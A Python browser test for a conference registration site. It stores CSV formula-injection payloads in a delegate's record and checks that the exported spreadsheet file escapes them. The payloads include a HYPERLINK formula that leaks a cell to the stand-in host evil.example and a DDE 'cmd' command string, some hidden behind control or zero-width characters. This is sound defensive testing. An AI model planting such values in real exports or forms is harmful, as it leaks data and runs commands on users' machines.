"""The Chair's office downloads the registrations list, with a participant's hostile name in it,
and the file opens in a spreadsheet as text."""

import csv

import pytest
from playwright.sync_api import expect

from conftest import sign_in
from gfmd.tests.hostile import spreadsheet_would_evaluate

pytestmark = pytest.mark.browser

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'


def test_chair_office_downloads_a_csv_that_runs_nothing(demo, live_server, page, screenshot):
    from delegations.models import Registration

    # A delegate who typed formulas behind a control character, a zero-width space and in
    # full-width forms (saved directly: what reaches the database is what the export must face).
    registration = Registration.objects.select_related("person").get(person__email="delegate.mx@example.org")
    registration.person.first_name = "\x01" + HYPERLINK
    registration.person.last_name = "＠SUM(1+1)"
    registration.person.save(update_fields=["first_name", "last_name"])
    registration.job_title = "\u200b+cmd|' /C calc'!A0"
    registration.dietary_needs = "\u2212 1"
    registration.save(update_fields=["job_title", "dietary_needs"])

    sign_in(page, live_server, "chair@example.org")
    page.get_by_role("button", name="Chair's office").click()
    page.get_by_role("link", name="Registrations").click()
    page.get_by_label("Search").fill("delegate.mx@example.org")
    page.get_by_role("button", name="Filter").click()
    expect(page.get_by_role("heading", name="1 registration")).to_be_visible()
    expect(page.locator(".registrations-table tbody")).to_contain_text("＠SUM(1+1)")
    screenshot("hostile-registration")
    with page.expect_download() as download:
        page.get_by_role("link", name="Export CSV").click()

    assert download.value.suggested_filename.startswith("gfmd-registrations-4-")
    assert download.value.suggested_filename.endswith(".csv")
    with open(download.value.path(), encoding="utf-8-sig", newline="") as file:
        header, *rows = csv.reader(file)
    assert len(rows) == 1
    row = dict(zip(header, rows[0], strict=True))
    assert (row["First name"], row["Last name"], row["E-mail"], row["Job title"], row["Dietary needs"]) == (
        "'" + HYPERLINK,
        "'＠SUM(1+1)",
        "delegate.mx@example.org",
        "'\u200b+cmd|' /C calc'!A0",
        "'\u2212 1",
    )
    assert [cell for cell in header + rows[0] if spreadsheet_would_evaluate(cell)] == []
